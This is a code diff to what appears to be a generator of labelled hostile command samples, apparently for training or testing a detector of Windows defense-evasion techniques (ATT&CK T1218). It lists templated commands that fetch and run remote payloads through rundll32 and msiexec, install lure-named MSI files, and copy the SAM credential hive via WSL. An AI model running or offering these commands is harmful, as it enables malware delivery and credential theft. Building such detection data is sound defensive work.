@@ -33,7 +33,6 @@ rundll32.exe pcwutl.dll,LaunchApplication ~f~.exe
 rundll32.exe shdocvw.dll,OpenURL "~f~.url"
 rundll32.exe mshtml.dll,PrintHTML "~f~.hta"
 rundll32.exe dfshim.dll,ShOpenVerbApplication @url@/~n~.application
-rundll32.exe -sta {@guid@}
 rundll32.exe \\@pub@@80\~n~\~n~.dll,Start
 rundll32.exe scrobj.dll,GenerateTypeLib @url@/~n~.sct
 rundll32.exe desk.cpl,InstallScreenSaver ~f~.scr
@@ -47,7 +46,7 @@ msiexec.exe /z "~f~.dll"
 msiexec.exe /i "\\@pub@\public\~n~.msi" /qn
 msiexec /q /i "https://«bit.ly|tinyurl.com|is.gd»/@hex@"
 msiexec.exe /fv @url@ /q
-"C:\Windows\System32\msiexec.exe" /i "C:\Users\@user@\Downloads\«AnyDesk_Update|ScreenConnect.ClientSetup|Invoice_@n@|eStatement|SSA_Document».msi" /qn
+"C:\Windows\System32\msiexec.exe" /i "C:\Users\@user@\Downloads\«Invoice_@n@|eStatement|SSA_Document|Tax_Form_@n@|Voice_Message».msi" /qn
 msiexec /i ~f~.msi TRANSFORMS=@url@/~n~.mst /q
 """)
 hostile("profiles-by-cmstp-and-control-panel-items", "Defense Evasion", "T1218.003 T1218", r"""
@@ -156,10 +155,8 @@ cmd.exe /c "wsl -e /mnt/c/Users/Public/~n~"
 wsl.exe -u root -e bash -c 'cp /mnt/c/Windows/System32/config/SAM /tmp/ ; /mnt/c/Windows/Temp/~n~.exe'
 bash.exe -c "cmd.exe /c ~f~.bat"
 wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u ~f~.exe
-Update.exe --processStart ~n~.exe --process-start-args "-c calc"
 SyncAppvPublishingServer.exe "n; Start-Process ~f~.exe"
 runexehelper.exe ~f~.exe
-ftp -s:~f~.txt
 at 23:00 /interactive ~f~.exe
 powershell -c "[Activator]::CreateInstance([type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39')).Item().Document.Application.ShellExecute('cmd','/c ~f~.bat','','',0)"
 """, weight=1.4)
